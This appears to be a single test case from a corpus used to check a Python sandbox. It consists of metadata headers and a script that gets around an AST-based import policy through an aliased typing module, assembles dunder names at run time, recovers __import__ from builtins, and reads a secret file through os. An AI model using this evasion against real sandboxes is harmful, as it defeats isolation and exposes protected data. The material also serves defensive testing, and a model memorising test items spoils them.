# id: in05-recover-getattr-import
# category: introspection
# effect: recover getattr and __import__ from the real builtins, import os
# touches_os: yes
# destructive: no
# fast: no
import typing
t = typing            # an alias: the AST policy only checks names bound by import
mods = t.sys.modules
d = "_" * 2             # dunders assembled at run time: no literal dunder in the source
bi = mods["builtins"]
ag = t.operator.attrgetter
ga = ag("get" + "attr")(bi)
imp = ga(bi, d + "import" + d)
o = imp("os")
print(o.read(o.open("{SECRET}", o.O_RDONLY), 200))
